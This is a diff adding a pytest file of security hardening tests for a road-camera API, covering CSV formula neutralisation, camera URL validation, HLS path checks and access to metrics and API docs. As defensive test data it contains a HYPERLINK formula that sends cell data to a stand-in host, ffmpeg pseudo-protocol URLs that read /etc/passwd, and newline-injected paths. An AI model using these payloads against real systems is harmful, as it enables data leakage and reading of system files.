@@ -1,0 +1,83 @@
+"""Issue 12 item 3: each hardening has a test that failed before it."""
+from __future__ import annotations
+
+import csv
+import io
+from types import SimpleNamespace
+
+import pytest
+import yaml
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+from pydantic import SecretStr, ValidationError
+
+from roadcam.common.camconfig.models import SourceConfig
+from roadcam.common.settings import S3Settings
+from services.api.auth.roles import Role
+from services.api.csv_writer import neutralise
+from tests.unit.api.apikit import Api
+
+FORMULA = '=HYPERLINK("http://x/"&A1,"open")'
+
+
+def test_a_sign_in_name_never_reaches_the_audit_csv_as_a_formula(api: Api) -> None:
+    api.client.post("/api/v1/auth/token", json={"username": FORMULA, "password": "whatever-it-is"})
+    r = api.client.get("/api/v1/audit/export.csv", headers=api.role_headers()[Role.AUDITOR])
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+    actors = [row["actor"] for row in rows if row["action"] == "login_failed"]
+    assert actors and all(a == "'" + FORMULA for a in actors)
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_every_formula_start_is_neutralised(cell: str) -> None:
+    assert neutralise(cell) == "'" + cell
+    assert neutralise("上り") == "上り" and neutralise(-1) == -1
+
+
+@pytest.mark.parametrize("url", ["concat:/a.ts|/b.ts", "pipe:0", "subfile,,start,0,end,0,,:/etc/passwd",
+                                 "ftp://host/x", "file:/etc/passwd", "gopher://x"])
+def test_camera_urls_refuse_ffmpeg_pseudo_protocols(url: str) -> None:
+    with pytest.raises(ValidationError, match="unsupported scheme"):
+        SourceConfig(url=url)
+
+
+@pytest.mark.parametrize("url", ["rtsp://10.0.0.1/s", "rtsps://h/s", "http://h/x.m3u8", "https://h/x",
+                                 "file:///data/clip.mp4", "/data/clip.mp4", "clip.mp4", "./a/b.mp4"])
+def test_camera_urls_accept_streams_and_plain_files(url: str) -> None:
+    assert SourceConfig(url=url).url == url
+
+
+def public_client(tmp_path) -> TestClient:
+    from services.api.public import create_router
+
+    notice = {"operator": "o", "purpose": "p", "contact": "c"}
+    cams = [{"id": "pub-1", "name": "n", "source": {"url": "/x"}, "purposes": ["road_management"],
+             "department": "roads", "notice": notice},
+            {"id": "survey-only", "name": "n", "source": {"url": "/x"}, "purposes": ["traffic_survey"],
+             "department": "roads", "notice": notice}]
+    config = tmp_path / "cameras.yaml"
+    config.write_text(yaml.safe_dump({"version": 1, "cameras": cams}))
+    # S3 is unreachable on purpose: a refused request must never get as far as the store.
+    settings = SimpleNamespace(config_file=config, s3=S3Settings(endpoint="127.0.0.1:1"),
+                               s3_secret_key=SecretStr("x"), public_bucket="roadcam-public")
+    app = FastAPI()
+    app.include_router(create_router(settings))
+    return TestClient(app, raise_server_exceptions=False)
+
+
+@pytest.mark.parametrize("path", ["/hls/survey-only/index.m3u8", "/hls/gone-camera/seg-00000001.ts",
+                                  "/hls/pub-1%0A/index.m3u8", "/hls/pub-1/index.m3u8%0A"])
+def test_hls_serves_only_publishing_cameras_and_exact_names(tmp_path, path: str) -> None:
+    assert public_client(tmp_path).get(path).status_code == 404
+
+
+@pytest.mark.parametrize("path", ["/metrics", "/openapi.json", "/docs", "/redoc"])
+def test_metrics_and_api_docs_are_not_public(api: Api, path: str) -> None:
+    assert api.client.get(path).status_code in (401, 404)
+
+
+def test_signed_in_callers_get_the_schema_and_managers_the_metrics(api: Api) -> None:
+    headers = api.role_headers()
+    assert "/api/v1/counts" in api.client.get("/openapi.json", headers=headers[Role.ANALYST]).json()["paths"]
+    assert api.client.get("/metrics", headers=headers[Role.ANALYST]).status_code == 403
+    assert "roadcam_api_requests_total" in api.client.get("/metrics", headers=headers[Role.MANAGER]).text
